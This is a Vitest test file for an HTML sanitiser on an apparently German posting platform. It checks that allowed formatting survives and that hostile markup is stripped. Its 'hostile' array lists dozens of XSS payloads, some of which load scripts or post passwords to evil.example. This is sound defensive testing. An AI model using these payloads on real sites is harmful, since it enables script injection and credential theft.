import { describe, expect, it } from "vitest";
import { picturesOf, plainText, sanitiseBody, sanitiseDescription } from "#lib/platform/rich-text/sanitise-body.ts";

const own = "/files/posts/ab/abcd-1600.webp";
const clean = (html: string) => sanitiseBody(html, { isOwnPicture: (src) => src === own });

/** Whatever a browser would run, load or be led to in secret. */
const isHarmless = (html: string): boolean =>
  !/<(?!\/?(p|br|h2|h3|strong|em|ul|ol|li|blockquote|hr|a|img)\b)[a-z!/?]/i.test(html) &&
  !/<[^>]*\son\w+\s*=/i.test(html) &&
  !/<[^>]*(javascript|vbscript|data|blob|file):/i.test(html) &&
  !/<[^>]*\s(style|class|id|srcset|target|xlink:href|formaction|srcdoc)\s*=/i.test(html);

const hostile = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='/files/posts/ab/abcd-1600.webp' onerror=alert(1)>",
  "<img src=`javascript:alert(1)`>",
  `<img """><script>alert(1)</script>">`,
  "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
  "<img src=//evil.example/pixel.gif>",
  "<img src=https://evil.example/pixel.gif width=1 height=1>",
  "<img/src='x'/onerror='alert(1)'>",
  "<img srcset='https://evil.example/x 1x' src=/files/posts/ab/abcd-1600.webp>",
  "<svg><script>alert(1)</script></svg>",
  "<svg/onload=alert(1)>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href=' java\tscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
  "<a href='//evil.example'>x</a>",
  "<a href='/\\evil.example'>x</a>",
  "<a href='https://kreda.example@evil.example/'>x</a>",
  "<a href='https://ok.example' onclick='alert(1)' style='position:fixed;inset:0' target=_blank>x</a>",
  "<iframe src='https://evil.example'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='javascript:alert(1)'>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href='https://evil.example/x.css'>",
  "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
  "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<p style='background:url(javascript:alert(1))' class='dlg' id='content'>x</p>",
  "<p onmouseover=alert(1)>x</p>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><x onclick=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<textarea><script>alert(1)</script></textarea>",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<title></title><script>alert(1)</script>",
  "<custom-element onclick=alert(1)>x</custom-element>",
  "<a href='https://ok.example/&quot;onmouseover=alert(1)//'>x</a>",
  "\u003cscript\u003ealert(1)\u003c/script\u003e",
  "<<script>alert(1)//<</script>",
  "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>",
  `${"<ul><li>".repeat(500)}x`,
];

describe("threat 19 hostile markup", () => {
  it.each(hostile)("%s runs, loads and hides nothing", (html) => {
    const out = clean(html);
    expect(out).toSatisfy(isHarmless);
    // What comes out goes in again unchanged: nothing is put together by cleaning.
    expect(clean(out)).toBe(out);
  });

  it.each(hostile)("%s does as little in a description, which has no pictures either", (html) => {
    const out = sanitiseDescription(html);
    expect(out).toSatisfy(isHarmless);
    expect(out).not.toMatch(/<(img|h2|blockquote|hr)\b/);
    expect(sanitiseDescription(out)).toBe(out);
  });

  it("threat 25 a long hostile text is answered quickly", () => {
    const started = performance.now();
    clean("<".repeat(50_000));
    clean("<a href='".repeat(5_000));
    clean("&".repeat(50_000));
    expect(performance.now() - started).toBeLessThan(2_000);
  });
});

describe("what a text needs stays", () => {
  it.each([
    ["<p>Eins <strong>zwei</strong> <em>drei</em><br />vier</p>"],
    ["<h2>Titel</h2><h3>Unter</h3><ul><li>a</li></ul><ol><li>b</li></ol><blockquote><p>c</p></blockquote><hr />"],
    ['<p><a href="https://schule.example/a?b=c&amp;d" rel="nofollow ugc noopener">Link</a></p>'],
    ['<p><a href="mailto:a@schule.example" rel="nofollow ugc noopener">Mail</a></p>'],
    [`<img src="${own}" alt="Kinder malen" width="1600" height="900" loading="lazy" />`],
    ["<p>1 &lt; 2 &amp; 3 &gt; 2</p>"],
    ["<p>Ελληνικά, 日本語, हिन्दी</p>"],
  ])("%s", (html) => {
    expect(clean(html)).toBe(html);
  });

  it("other headings and old marks become those that are left", () => {
    expect(clean("<h1>A</h1><h4>B</h4><p><b>c</b><i>d</i></p>")).toBe("<h2>A</h2><h3>B</h3><p><strong>c</strong><em>d</em></p>");
  });

  it("no pictures where none were asked for", () => {
    expect(sanitiseBody(`<p>a</p><img src="${own}">`)).toBe("<p>a</p>");
  });
});

it("plain text keeps words apart and says what stood there", () => {
  expect(plainText("<h2>Uhr</h2><p>1 &lt; 2</p><ul><li>a</li><li>b &amp;amp; c</li></ul>")).toBe("Uhr 1 < 2 a b &amp; c");
});

it("names its pictures", () => {
  expect(picturesOf(clean(`<p>x</p><img src="${own}"><img src="https://evil.example/x.webp">`))).toEqual([own]);
});

it("a description keeps emphasis, one level of headings, lists and links that say whose they are", () => {
  expect(
    sanitiseDescription("<h1>A</h1><h2>B</h2><h4>C</h4><p><b>fett</b> <i>schräg</i><br>neu</p><blockquote><p>Zitat</p></blockquote>"),
  ).toBe("<h3>A</h3><h3>B</h3><h3>C</h3><p><strong>fett</strong> <em>schräg</em><br />neu</p><p>Zitat</p>");
  expect(sanitiseDescription('<ol start="3"><li><p>x</p></li></ol><a href="https://ok.example" target="_blank">y</a>')).toBe(
    '<ol start="3"><li><p>x</p></li></ol><a href="https://ok.example" rel="nofollow ugc noopener">y</a>',
  );
});
